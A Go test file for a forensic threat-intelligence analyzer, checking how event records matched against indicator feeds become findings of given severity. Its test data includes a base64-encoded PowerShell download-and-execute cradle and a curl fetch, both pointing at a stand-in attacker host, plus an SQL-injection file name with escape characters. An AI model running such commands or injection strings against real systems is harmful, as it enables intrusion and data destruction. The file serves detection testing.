package threatintel

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"forensic/analyzers"
	"forensic/analyzers/analyzertest"
	"forensic/datasets/reference"
)

const (
	md5A    = "0123456789abcdef0123456789abcdef"
	sha256A = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
)

var at = time.Date(2024, 5, 10, 12, 0, 0, 0, time.UTC)

// bad makes an indicator that a provider rates high.
func bad(t reference.IndicatorType, m reference.Match, value string) reference.Indicator {
	return reference.Indicator{Type: t, Match: m, Value: value, Severity: reference.High, Confidence: -1, Threat: "Example", Provider: "Feed", File: "feed.csv", Line: 7}
}

// row is an event of host h at the time of the test.
func row(class string, cells ...any) analyzertest.Row {
	r := analyzertest.Row{"class": class, "dataset": "d", "host_name": "h", "ts": at}
	for i := 0; i < len(cells); i += 2 {
		r[cells[i].(string)] = cells[i+1]
	}
	return r
}

// look runs the analyzer over rows.
func look(t *testing.T, a *analyzers.Analyzer, known []reference.Indicator, rows ...analyzertest.Row) *analyzers.Pass {
	t.Helper()
	set := &reference.Set{Sources: []reference.Source{{Name: "feed", File: "feed.csv", AsOf: at.AddDate(0, 0, -3)}, {Name: "old", File: "old.csv", AsOf: at.AddDate(0, 0, -300)}}}
	p := &analyzers.Pass{Data: analyzertest.DataWith(t, known, rows...), Reference: set, Workers: 2}
	if err := a.Run(t.Context(), p); err != nil {
		t.Fatal(err)
	}
	return p
}

// titles lists findings as "severity title: observable".
func titles(p *analyzers.Pass) []string {
	out := []string{}
	for _, f := range p.Findings {
		out = append(out, f.Severity.String()+" "+f.Title+": "+f.Facts[0].Value)
	}
	slices.Sort(out)
	return out
}

// Each case is one event and one indicator; an empty want is a near miss.
func TestMet(t *testing.T) {
	hidden := base64.StdEncoding.EncodeToString([]byte("iex (New-Object Net.WebClient).DownloadString('http://evil.example.com/a')"))
	exact, below, block := reference.Exact, reference.Below, reference.Block
	for _, test := range []struct {
		known reference.Indicator
		row   analyzertest.Row
		want  string
	}{
		{bad(reference.SHA256, exact, sha256A), row("process_start", "process_hash_sha256", sha256A), "high Hash of known malware executed"},
		{bad(reference.MD5, exact, md5A), row("module_load", "process_hash_md5", strings.ToUpper(md5A)), "high Hash of known malware loaded"},
		{bad(reference.MD5, exact, md5A), row("file", "process_hash_md5", md5A), "medium Hash of known malware on a file or module"},
		{bad(reference.ImpHash, exact, md5A), row("process_start", "process_hash_imphash", md5A), "high Import hash of known malware executed"},
		{bad(reference.MD5, exact, md5A), row("process_start", "process_hash_md5", md5A[1:]+"0"), ""},
		{bad(reference.IP, exact, "203.0.113.9"), row("network", "destination_ip", "203.0.113.9"), "high Known bad address contacted"},
		{bad(reference.IP, exact, "203.0.113.9"), row("network", "destination_ip", "203.0.113.9", "network_direction", "inbound"), "medium Known bad address in network records"},
		{bad(reference.IP, exact, "203.0.113.9"), row("network", "source_ip", "203.0.113.9", "network_direction", "inbound"), "high Connection from a known bad address"},
		{bad(reference.IP, exact, "203.0.113.9"), row("logon", "source_ip", "203.0.113.9", "event_outcome", "success"), "high Logon from a known bad address"},
		{bad(reference.IP, exact, "203.0.113.9"), row("logon", "source_ip", "203.0.113.9", "event_outcome", "failure"), "medium Failed logon from a known bad address"},
		{bad(reference.IP, exact, "203.0.113.9"), row("cloud", "source_ip", "203.0.113.9"), "high Cloud request from a known bad address"},
		{bad(reference.IP, block, "203.0.113.0/28"), row("network", "destination_ip", "203.0.113.15"), "high Known bad address contacted"},
		{bad(reference.IP, block, "203.0.113.0/28"), row("network", "destination_ip", "203.0.113.16"), ""},
		{bad(reference.IP, exact, "203.0.113.9"), row("dns", "dns_answers", "203.0.113.9;203.0.113.10"), "high Known bad address in a DNS answer"},
		{bad(reference.DNS, exact, "evil.com"), row("dns", "dns_question_name", "EVIL.com."), "high Known bad domain asked for"},
		{bad(reference.DNS, exact, "evil.com"), row("dns", "dns_question_name", "notevil.com"), ""},
		{bad(reference.DNS, exact, "evil.com"), row("dns", "dns_question_name", "www.evil.com"), "medium Known bad domain asked for"},
		{bad(reference.DNS, below, "evil.com"), row("dns", "dns_question_name", "www.evil.com"), "high Known bad domain asked for"},
		{bad(reference.DNS, reference.Wildcard, "%.evil-_.com"), row("dns", "dns_question_name", "www.evil-7.com"), "high Known bad domain asked for"},
		{bad(reference.DNS, exact, "evil.example.com"), row("network", "destination_host", "evil.example.com"), "high Known bad domain contacted"},
		{bad(reference.URL, reference.Prefix, "http://evil.example.com/kit/"), row("process_start", "process_command_line", "curl http://evil.example.com/kit/a"), "medium Known bad URL in a command or script"},
		{bad(reference.URL, exact, "http://evil.example.com/a"), row("process_start", "process_command_line", "powershell -enc "+hidden), "high Known bad URL in decoded content"},
		{bad(reference.URL, exact, "http://evil.example.com/a"), row("other", "message", "blocked hxxp://evil[.]example[.]com/a"), "medium Known bad URL in a message"},
		{bad(reference.Path, reference.Prefix, `c:\perflogs\kit`), row("process_start", "process_executable", `C:\PerfLogs\kit\x.exe`), "high Known bad path of a program"},
		{bad(reference.Path, reference.Prefix, `c:\perflogs\kit`), row("process_start", "process_executable", `C:\PerfLogs\kitten\x.exe`), ""},
		{bad(reference.FileName, exact, "evil.exe"), row("file", "file_name", "evil.exe"), "medium Known bad file name on a machine"},
		{bad(reference.FileName, exact, "evil.dll"), row("module_load", "dll_path", `C:\x\Evil.dll`), "medium Known bad file name of a program"},
		{bad(reference.RegistryKey, reference.Prefix, `hklm\software\evil`), row("registry", "registry_path", `HKLM\SOFTWARE\Evil\Run`), "high Known bad registry key on a machine"},
		{bad(reference.Pipe, exact, "evil"), row("pipe", "pipe_name", `\Evil`), "high Known bad pipe used"},
		{bad(reference.UserAgent, exact, "evil/1.0"), row("cloud", "user_agent", "Evil/1.0"), "high Known bad user agent used"},
		{bad(reference.Account, exact, "mallory"), row("logon", "target_user_name", "Mallory"), "high Known bad account on a machine"},
		{bad(reference.Email, exact, "a@evil.com"), row("process_start", "process_command_line", "mail a@evil.com"), "medium Known bad mail address in a command or script"},
		{bad(reference.Bitcoin, exact, "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"), row("process_start", "process_command_line", "pay 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"), "medium Known bad Bitcoin address in a command or script"},
		{bad(reference.IP, exact, "10.0.0.9"), row("network", "destination_ip", "10.0.0.9"), "high Known bad address contacted"},
		{bad(reference.IP, exact, "203.0.113.9"), row("network", "destination_ip", "10.0.0.9"), ""},
		{bad(reference.DNS, exact, "evil.com"), row("dns"), ""},
	} {
		p := look(t, Analyzer, []reference.Indicator{test.known}, test.row)
		var got string
		if len(p.Findings) == 1 {
			f := p.Findings[0]
			got = f.Severity.String() + " " + f.Title
			if f.Host != "h" || f.First != at.UnixMicro() || len(f.Evidence) != 1 || f.EvidenceTotal != 1 || f.Benign == "" {
				t.Errorf("%s: %+v", got, f)
			}
			if n := count(t, p, f.Query); n != 1 {
				t.Errorf("%s: its query gives %d records: %s", got, n, f.Query)
			}
		}
		if got != test.want || len(p.Findings) > 1 {
			t.Errorf("%s %q: got %q, want %q", test.known.Type, test.known.Value, titles(p), test.want)
		}
	}
}

// count runs a query of a finding.
func count(t *testing.T, p *analyzers.Pass, query string) (n int) {
	t.Helper()
	rows, err := p.Data.Query(t.Context(), query)
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	for rows.Next() {
		n++
	}
	return n
}

// What makes a finding less severe.
func TestLowered(t *testing.T) {
	contact := row("network", "destination_ip", "203.0.113.9")
	with := func(change func(*reference.Indicator)) []reference.Indicator {
		i := bad(reference.IP, reference.Exact, "203.0.113.9")
		change(&i)
		return []reference.Indicator{i}
	}
	good := bad(reference.IP, reference.Exact, "203.0.113.9")
	good.KnownGood, good.Provider = true, "Good list"
	second := bad(reference.IP, reference.Block, "203.0.113.0/24")
	second.Provider = "Second feed"
	for name, test := range map[string]struct {
		known []reference.Indicator
		want  string // severity, or part of why with it
		why   string
	}{
		"plain":       {with(func(*reference.Indicator) {}), "high", "feed.csv line 7, as of 2024-05-07, 3 days before"},
		"expired":     {with(func(i *reference.Indicator) { i.ValidUntil = at }), "medium", "expired on 2024-05-10"},
		"still valid": {with(func(i *reference.Indicator) { i.ValidUntil = at.Add(time.Second) }), "high", "It was valid at the time"},
		"not yet":     {with(func(i *reference.Indicator) { i.ValidFrom = at.Add(time.Second) }), "high", "valid from 2024-05-10 on, after the events"},
		"doubtful":    {with(func(i *reference.Indicator) { i.Confidence = 20 }), "medium", "confidence is 20 of 100"},
		"warning":     {with(func(i *reference.Indicator) { i.Severity = reference.Warning }), "medium", "rates ip \"203.0.113.9\" warning"},
		"both":        {with(func(i *reference.Indicator) { i.Severity, i.Confidence, i.ValidUntil = reference.Warning, 20, at }), "low", "expired"},
		"conflict":    {append(with(func(*reference.Indicator) {}), good), "medium", "Good list has the same as known good"},
		"agreed":      {append(with(func(*reference.Indicator) {}), second), "high", "2 providers agree: Feed, Second feed"},
		"information": {with(func(i *reference.Indicator) { i.Severity = reference.Information }), "", ""},
		"unknown":     {with(func(i *reference.Indicator) { i.Severity = reference.Unknown }), "", ""},
		"good":        {[]reference.Indicator{good}, "", ""},
	} {
		p := look(t, Analyzer, test.known, contact)
		if test.want == "" {
			if len(p.Findings) != 0 || len(p.Exhibits) != 3 || len(p.Exhibits[0].Table.Rows) != 1 {
				t.Errorf("%s: %+v", name, p)
			}
			continue
		}
		if len(p.Findings) != 1 || p.Findings[0].Severity.String() != test.want || !strings.Contains(p.Findings[0].Why, test.why) {
			t.Errorf("%s: %+v", name, p.Findings)
		}
	}
}

func TestConflictIsTold(t *testing.T) {
	good := bad(reference.SHA256, reference.Exact, sha256A)
	good.KnownGood, good.Provider, good.File = true, "Good list", "good.txt"
	only := bad(reference.MD5, reference.Exact, md5A)
	only.KnownGood, only.Provider, only.File = true, "Good list", "good.txt"
	p := look(t, Analyzer, []reference.Indicator{bad(reference.SHA256, reference.Exact, sha256A), good, only},
		row("process_start", "process_hash_sha256", sha256A, "process_hash_md5", md5A))
	if diff := cmp.Diff([]string{"medium Hash of known malware executed: " + sha256A}, titles(p)); diff != "" {
		t.Error(diff)
	}
	if w := p.Findings[0].Warnings; len(w) != 1 || !strings.Contains(w[0], "Good list") {
		t.Errorf("warnings: %q", w)
	}
	var rows []string
	for _, e := range p.Exhibits {
		for _, r := range e.Table.Rows {
			rows = append(rows, e.ID+": "+strings.Join(r[:min(len(r), 4)], "|"))
		}
	}
	want := []string{
		"verdicts: " + sha256A + "|sha256|high|medium",
		"verdicts: " + md5A + "|md5|known good|",
		"severities: high|1|yes", "severities: warning|0|yes", "severities: information|0|", "severities: unknown|0|",
		"severities: known good|1|", "severities: known bad and known good|1|yes",
		"sources: Feed|feed.csv|feed|known bad", "sources: Good list|good.txt||known good",
	}
	if diff := cmp.Diff(want, rows); diff != "" {
		t.Error(diff)
	}
}

// One indicator that covers much is one finding; further ways are told in it.
func TestGrouped(t *testing.T) {
	tagged := bad(reference.DNS, reference.Below, "evil.com")
	tagged.Category, tagged.Tags = "C2", []string{"attack.t1568.002", "x"}
	p := look(t, Analyzer, []reference.Indicator{tagged},
		row("dns", "dns_question_name", "a.evil.com", "process_name", "x.exe"), row("dns", "dns_question_name", "b.evil.com"),
		row("network", "destination_host", "c.evil.com"), row("process_start", "process_command_line", "ping a.evil.com"))
	want := []string{"high Known bad domain asked for: a.evil.com", "high Known bad domain contacted: c.evil.com"}
	if diff := cmp.Diff(want, titles(p)); diff != "" {
		t.Error(diff)
	}
	for _, f := range p.Findings {
		if f.Title != "Known bad domain asked for" {
			continue
		}
		if diff := cmp.Diff([]string{"T1071", "T1568.002"}, f.Techniques); diff != "" || f.EvidenceTotal != 2 || count(t, p, f.Query) != 2 {
			t.Errorf("%s %+v", diff, f)
		}
		facts := fmt.Sprint(f.Facts)
		for _, part := range []string{"{It covers also b.evil.com}", "{Met also Known bad domain in a command or script}", "{Programs x.exe}"} {
			if !strings.Contains(facts, part) {
				t.Errorf("no %s in %s", part, facts)
			}
		}
	}
}

func TestNothing(t *testing.T) {
	p := look(t, Analyzer, nil, row("network", "destination_ip", "203.0.113.9"))
	if !p.Inapplicable || len(p.Warnings) != 1 || len(p.Findings)+len(p.Exhibits) != 0 {
		t.Errorf("no indicators: %+v", p)
	}
	p = look(t, Analyzer, []reference.Indicator{bad(reference.IP, reference.Exact, "203.0.113.9")})
	if p.Inapplicable || len(p.Findings) != 0 || len(p.Exhibits) != 2 {
		t.Errorf("no events: %+v", p)
	}
}

func TestWarnings(t *testing.T) {
	old, unknown := bad(reference.IP, reference.Exact, "203.0.113.9"), bad(reference.IP, reference.Exact, "203.0.113.10")
	old.File, unknown.File = "old.csv", "unknown.csv"
	p := look(t, Analyzer, []reference.Indicator{old, unknown, bad(reference.IP, reference.Exact, "203.0.113.11")},
		row("network", "source_ip", "10.0.0.1", "destination_ip", "203.0.113.99"))
	want := []string{
		"Observables that were not looked up: 1 because the address is not global (private)",
		"old.csv of Feed is as of 2023-07-15, 300 days before the last event of the evidence: what became known since is not in it",
		"It is not known when these sources were true: unknown.csv",
	}
	if diff := cmp.Diff(want, p.Warnings); diff != "" || p.Partial {
		t.Error(diff)
	}
}

// Names that mean harm to SQL and JSON do none.
func TestHostile(t *testing.T) {
	name := `'; DROP TABLE events; --".exe`
	known := []reference.Indicator{bad(reference.FileName, reference.Exact, strings.ToLower(name)), bad(reference.Account, reference.Exact, "a\x1b[31m\u202e'b")}
	p := look(t, Analyzer, known, row("file", "file_name", name), row("logon", "target_user_name", "A\x1b[31m\u202e'B"), row("dns", "dns_question_name", "'.\".\x00.com"))
	if len(p.Findings) != 2 {
		t.Errorf("%q", titles(p))
	}
	for _, f := range p.Findings {
		if count(t, p, f.Query) != 1 {
			t.Error(f.Query)
		}
	}
}

// Limits are told with totals, and more observables than can be held are looked up
// all the same.
func TestLimits(t *testing.T) {
	var known []reference.Indicator
	var rows []analyzertest.Row
	for i := range 9 {
		value := fmt.Sprintf("203.0.113.%d", i+1)
		known = append(known, bad(reference.IP, reference.Exact, value))
		rows = append(rows, row("network", "destination_ip", value), row("process_start", "process_command_line", "ping "+value))
	}
	few := Analyzer.Options.(Options)
	few.MaxIndicators, few.MaxFindings, few.MaxRows = 4, 5, 3
	p := look(t, analyzers.New(Analyzer.Meta, few, run), known, rows...)
	if len(p.Findings) != 5 || len(p.Warnings) != 1 || !strings.HasPrefix(p.Warnings[0], "4 more findings") || p.Partial {
		t.Errorf("%d findings, %q", len(p.Findings), p.Warnings)
	}
	if table := p.Exhibits[0].Table; len(table.Rows) != 3 || table.Total != 9 {
		t.Errorf("%d of %d rows", len(table.Rows), table.Total)
	}
	few.MaxHits = 6
	p = look(t, analyzers.New(Analyzer.Meta, few, run), known, rows...)
	if !p.Partial || p.Exhibits[0].Table.Total < 9 {
		t.Errorf("%q, %d rows", p.Warnings, p.Exhibits[0].Table.Total)
	}
}

// The same evidence gives the same bytes, in whatever order it comes and with any
// number of workers.
func TestDeterminism(t *testing.T) {
	var known []reference.Indicator
	var rows []analyzertest.Row
	for i := range 40 {
		value := fmt.Sprintf("203.0.113.%d", i+1)
		one, two := bad(reference.IP, reference.Exact, value), bad(reference.IP, reference.Block, "203.0.113.0/26")
		one.Line, two.Line, two.Provider = int64(i), int64(i), "Second feed"
		known = append(known, one, two)
		r := row("network", "destination_ip", value)
		r["record"], r["host_name"] = i+1, fmt.Sprintf("h%d", i%7)
		rows = append(rows, r)
	}
	var first []byte
	for workers := range 4 {
		p := &analyzers.Pass{Data: analyzertest.DataWith(t, known, rows...), Reference: &reference.Set{}, Workers: workers + 1}
		if err := Analyzer.Run(t.Context(), p); err != nil {
			t.Fatal(err)
		}
		out, err := json.Marshal([]any{p.Findings, p.Exhibits, p.Warnings})
		if err != nil {
			t.Fatal(err)
		}
		if first == nil {
			first = out
		} else if string(out) != string(first) {
			t.Errorf("%d workers: other bytes", workers+1)
		}
		slices.Reverse(known)
		slices.Reverse(rows)
	}
}
